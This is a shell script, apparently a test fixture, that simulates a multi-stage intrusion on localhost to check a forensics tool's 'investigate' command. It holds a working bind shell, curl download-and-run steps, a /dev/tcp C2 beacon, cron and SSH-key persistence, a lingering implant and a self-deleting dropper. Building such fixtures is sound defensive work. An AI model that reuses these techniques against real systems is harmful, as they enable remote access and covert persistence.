#!/bin/sh
# intrusion.sh SCRATCH - a multi-stage intrusion on this host, for
# tests/integration/test_investigate.c (the proof of `hinomi investigate`).
# Needs root (it writes a file in /etc/cron.d).
#
# Stages, each a real process, in this order:
#   1. a "network service" (python3) listens on 127.0.0.1 and, on the one
#      connection it accepts, starts /bin/sh with the connection as its
#      stdin, stdout and stderr (a bind shell, or a vulnerable service);
#   2. the attacker (a python3 client) connects and sends that shell its
#      commands: download a script and a payload with curl from an HTTP
#      server on 127.0.0.1 into SCRATCH (which is in /tmp), run the script,
#      pause (half a second, as a person at a keyboard would: it also makes
#      sure the benign process acts while the attack runs), chmod +x the
#      payload and run it;
#   3. the payload (a bash script) writes the cron file
#      /etc/cron.d/hinomi-test-TOKEN (a line that never runs: 31 February),
#      appends a line to the shared cron file /etc/cron.d/hinomi-shared-TOKEN
#      (made by the setup with a benign line), appends a key to
#      SCRATCH/home/alice/.ssh/authorized_keys and a line to
#      SCRATCH/home/alice/.bashrc, leaves an implant running (a sleep of
#      120 s whose parent, the payload, ends: IMPLANT_PID), connects to a "C2" listener on
#      127.0.0.1 (from its own process: bash's /dev/tcp), and starts a
#      child that copies the payload to SCRATCH/dropper and runs it; the
#      dropper removes its own file (rm of its own path) and exits.
# All the while a benign process (started before the attacker connects,
# ended after stage 3) writes and removes SCRATCH/benign/file.
#
# Output: KEY=VALUE lines on stdout (ports, pids, paths; TOKEN is SCRATCH's
# name), the last one RESULT=ok when every stage ran.  Exit 0 then, 1
# when a stage did not run, 2 on bad usage.
#
# Safety: 127.0.0.1 only; every wait is bounded (the whole run takes a few
# seconds; under three minutes whatever happens); every process started is
# ended by its pid.
# Outside SCRATCH only the two cron files are written (and /etc/cron.d made
# when it is missing); they are removed on exit, whatever the exit (trap),
# unless KEEP_CRON=1 (a caller that goes on with them: it removes them),
# and a caller that has to SIGKILL this script knows their names:
# /etc/cron.d/hinomi-test-TOKEN and /etc/cron.d/hinomi-shared-TOKEN.
# The implant is the caller's to end (by IMPLANT_PID).
set -u

PY=/usr/bin/python3
S=${1:-}
case $S in
/tmp/?*) ;;
*) echo "usage: intrusion.sh SCRATCH (an existing directory in /tmp)" >&2; exit 2 ;;
esac
case $S in
*[!A-Za-z0-9/._-]*|*/../*|*/..) echo "intrusion.sh: SCRATCH: letters, digits, / . _ - only" >&2; exit 2 ;;
esac
[ -d "$S" ] || { echo "intrusion.sh: no directory $S" >&2; exit 2; }
[ "$(id -u)" = 0 ] || { echo "intrusion.sh: needs root (/etc/cron.d)" >&2; exit 2; }
[ -x "$PY" ] || { echo "intrusion.sh: no $PY" >&2; exit 2; }
command -v curl >/dev/null || { echo "intrusion.sh: no curl" >&2; exit 2; }
[ -x /bin/bash ] || { echo "intrusion.sh: no /bin/bash" >&2; exit 2; }

TOKEN=$(basename "$S")
CRON=/etc/cron.d/hinomi-test-$TOKEN
SHARED=/etc/cron.d/hinomi-shared-$TOKEN
PAYLOAD=$S/payload
DROPPER=$S/dropper
STAGE=$S/stage.sh
HOMEDIR=$S/home/alice
KEYS=$HOMEDIR/.ssh/authorized_keys
RC=$HOMEDIR/.bashrc
MADE_CRON_D=
PIDS=

say() { printf '%s=%s\n' "$1" "$2"; }

# shellcheck disable=SC2317  # called by the trap
cleanup() {
	for p in $PIDS; do
		kill "$p" 2>/dev/null
	done
	if [ "${KEEP_CRON:-0}" != 1 ]; then
		rm -f "$CRON" "$SHARED"
		[ -z "$MADE_CRON_D" ] || rmdir /etc/cron.d 2>/dev/null
	fi
}
trap cleanup EXIT
trap 'exit 1' INT TERM HUP

# wait_for FILE REGEX: up to 10 s for FILE to hold a line matching REGEX
wait_for() {
	i=0
	while [ "$i" -lt 100 ]; do
		grep -q -e "$2" "$1" 2>/dev/null && return 0
		sleep 0.1
		i=$((i + 1))
	done
	return 1
}

# alive PID: true while PID runs (a zombie does not)
alive() {
	[ -r "/proc/$1/status" ] && ! grep -q '^State:[[:space:]]*Z' "/proc/$1/status" 2>/dev/null
}

# stop PID: up to 5 s for it to end by itself, then SIGTERM, 5 s, SIGKILL;
# then reaped
stop() {
	i=0
	while [ "$i" -lt 50 ] && alive "$1"; do
		sleep 0.1
		i=$((i + 1))
	done
	alive "$1" && kill "$1" 2>/dev/null
	i=0
	while [ "$i" -lt 50 ] && alive "$1"; do
		sleep 0.1
		i=$((i + 1))
	done
	alive "$1" && kill -9 "$1" 2>/dev/null
	wait "$1" 2>/dev/null
	return 0
}

fail() {
	echo "intrusion.sh: $*" >&2
	say RESULT fail
	exit 1
}

say SCRATCH "$S"
say TOKEN "$TOKEN"
say CRON "$CRON"
say SHARED_CRON "$SHARED"
say PAYLOAD "$PAYLOAD"
say DROPPER "$DROPPER"
say STAGE "$STAGE"
say AUTHORIZED_KEYS "$KEYS"
say BASHRC "$RC"
say SERVICE_EXE "$(readlink -f "$PY")"

# ---- setup: the fake user's home, the web root, the cron directory ----
mkdir -p "$HOMEDIR/.ssh" "$S/www" "$S/benign" || fail "cannot make the directories"
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBenignKeyOfAliceForHinomiTests alice@laptop' > "$KEYS"
echo 'export EDITOR=vi' > "$RC"
if [ ! -d /etc/cron.d ]; then
	mkdir /etc/cron.d || fail "cannot make /etc/cron.d"
	MADE_CRON_D=1
fi
[ ! -e "$CRON" ] || fail "$CRON exists already"
[ ! -e "$SHARED" ] || fail "$SHARED exists already"
# a benign user's line in a cron file the attack will add to (never runs)
echo '0 0 31 2 * root /bin/true # benign-before' > "$SHARED" || fail "cannot write $SHARED"

# ---- the listeners: C2, HTTP server, the network service ----
# C2: accepts one connection (60 s at most), reads what comes (5 s), closes.
"$PY" -c '
import socket, sys
l = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
l.bind(("127.0.0.1", 0))
l.listen(1)
print(l.getsockname()[1], flush=True)
l.settimeout(60)
try:
    c, peer = l.accept()
    c.settimeout(5)
    try:
        c.recv(256)
    except OSError:
        pass
    c.close()
except OSError:
    sys.exit(1)
' > "$S/c2.out" 2>&1 &
C2_PID=$!
PIDS="$PIDS $C2_PID"
say C2_PID "$C2_PID"

"$PY" -u -m http.server --bind 127.0.0.1 --directory "$S/www" 0 > "$S/http.log" 2>&1 &
HTTP_PID=$!
PIDS="$PIDS $HTTP_PID"
say HTTP_PID "$HTTP_PID"

# The service: one connection (60 s at most), a shell on it, waited for
# (60 s at most, then killed).
"$PY" -c '
import os, socket, sys, time
l = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
l.bind(("127.0.0.1", 0))
l.listen(1)
print(l.getsockname()[1], flush=True)
l.settimeout(60)
c, peer = l.accept()
l.close()
c.setblocking(True)
pid = os.fork()
if pid == 0:
    try:
        for fd in (0, 1, 2):
            os.dup2(c.fileno(), fd)
        os.execv("/bin/sh", ["sh"])
    finally:
        os._exit(127)
c.close()
deadline = time.time() + 60
while time.time() < deadline:
    if os.waitpid(pid, os.WNOHANG)[0] == pid:
        sys.exit(0)
    time.sleep(0.05)
os.kill(pid, 9)
os.waitpid(pid, 0)
sys.exit(1)
' > "$S/service.out" 2>&1 &
SERVICE_PID=$!
PIDS="$PIDS $SERVICE_PID"
say SERVICE_PID "$SERVICE_PID"

wait_for "$S/c2.out" '^[0-9][0-9]*$' || fail "the C2 listener did not start"
C2_PORT=$(head -n 1 "$S/c2.out")
wait_for "$S/http.log" ' port [0-9][0-9]* ' || fail "the HTTP server did not start"
HTTP_PORT=$(sed -n 's/.* port \([0-9][0-9]*\) .*/\1/p' "$S/http.log" | head -n 1)
wait_for "$S/service.out" '^[0-9][0-9]*$' || fail "the service did not start"
SERVICE_PORT=$(head -n 1 "$S/service.out")
say C2_PORT "$C2_PORT"
say HTTP_PORT "$HTTP_PORT"
say SERVICE_PORT "$SERVICE_PORT"

# ---- what the HTTP server serves: a recon script and the payload ----
cat > "$S/www/stage.sh" <<'EOF'
#!/bin/sh
# recon
id -u
uname -s
EOF
# The payload (bash: /dev/tcp connects from the payload's own process).
# Run as "PATH --dropped" it is the dropper: it removes its own file.
sed -e "s|@S@|$S|g" -e "s|@C2@|$C2_PORT|g" -e "s|@CRON@|$CRON|g" -e "s|@SHARED@|$SHARED|g" \
	> "$S/www/payload" <<'EOF'
#!/bin/bash
if [ "${1:-}" = --dropped ]; then
	echo "DROPPER_PID=$$"
	rm -f -- "$0"
	exit 0
fi
echo "PAYLOAD_PID=$$"
echo '0 0 31 2 * root true' > "@CRON@"
echo '0 0 31 2 * root /bin/true # attacker' >> "@SHARED@"
sleep 120 </dev/null >/dev/null 2>&1 &
echo "IMPLANT_PID=$!"
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttackerKeyForHinomiTestsOnly mallory@c2' >> "@S@/home/alice/.ssh/authorized_keys"
echo 'alias sudo="sudo " # hinomi-test' >> "@S@/home/alice/.bashrc"
if exec 3<>"/dev/tcp/127.0.0.1/@C2@"; then
	echo "beacon $$" >&3
	exec 3>&-
	echo "C2_SENT=1"
fi
( cp -- "$0" "@S@/dropper" && chmod +x "@S@/dropper" && "@S@/dropper" --dropped )
echo "PAYLOAD_END=1"
EOF
grep -q "/dev/tcp/127.0.0.1/$C2_PORT" "$S/www/payload" || fail "cannot write the payload"

# ---- the benign process: started before the attack, ended after ----
/bin/sh -c '
i=0
while [ "$i" -lt 300 ] && [ ! -e "$1/benign/stop" ]; do
	echo data > "$1/benign/file"
	rm -f "$1/benign/file"
	sleep 0.1
	i=$((i + 1))
done
' benign "$S" </dev/null >/dev/null 2>&1 &
BENIGN_PID=$!
PIDS="$PIDS $BENIGN_PID"
say BENIGN_PID "$BENIGN_PID"
sleep 0.3

# ---- the attack: the attacker's client, its commands run by the shell ----
"$PY" -c '
import socket, sys, time
cmds = sys.stdin.buffer.read()
c = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=10)
c.sendall(cmds)
c.shutdown(socket.SHUT_WR)
c.settimeout(1)
out = b""
deadline = time.time() + 40
while time.time() < deadline:
    try:
        d = c.recv(65536)
    except socket.timeout:
        continue
    if not d:
        break
    out += d
c.close()
sys.stdout.write(out.decode("utf-8", "replace"))
sys.exit(0 if b"ATTACK_DONE=1" in out else 1)
' "$SERVICE_PORT" > "$S/attacker.out" 2>&1 <<EOF &
echo "SHELL_PID=\$\$"
cd /tmp
curl -sS -f --max-time 10 -o "$STAGE" "http://127.0.0.1:$HTTP_PORT/stage.sh" </dev/null
curl -sS -f --max-time 10 -o "$PAYLOAD" "http://127.0.0.1:$HTTP_PORT/payload" </dev/null
sh "$STAGE" </dev/null
sleep 0.5
chmod +x "$PAYLOAD"
"$PAYLOAD" </dev/null && echo "PAYLOAD_OK=1"
echo "ATTACK_DONE=1"
EOF
CLIENT_PID=$!
PIDS="$PIDS $CLIENT_PID"
say CLIENT_PID "$CLIENT_PID"
i=0
while [ "$i" -lt 500 ] && alive "$CLIENT_PID"; do
	sleep 0.1
	i=$((i + 1))
done
alive "$CLIENT_PID" && kill -9 "$CLIENT_PID" 2>/dev/null
wait "$CLIENT_PID"
client_rc=$?
# what the shell and the payload said: the pids (SHELL_PID, PAYLOAD_PID, ...)
grep -E '^[A-Z0-9_]+=[^ ]*$' "$S/attacker.out"

# ---- the end: the benign process, the listeners ----
touch "$S/benign/stop"
stop "$BENIGN_PID"
stop "$SERVICE_PID"
stop "$C2_PID"
kill "$HTTP_PID" 2>/dev/null
stop "$HTTP_PID"
PIDS=

[ "$client_rc" = 0 ] || fail "the attack did not finish (the attacker's client: $client_rc)"
for k in SHELL_PID PAYLOAD_PID DROPPER_PID IMPLANT_PID C2_SENT PAYLOAD_OK; do
	grep -q "^$k=" "$S/attacker.out" || fail "no $k from the attack"
done
[ -s "$CRON" ] || fail "the payload wrote no cron file"
grep -q attacker "$SHARED" || fail "the payload did not add to $SHARED"
[ ! -e "$DROPPER" ] || fail "the dropper did not remove itself"
say RESULT ok
exit 0
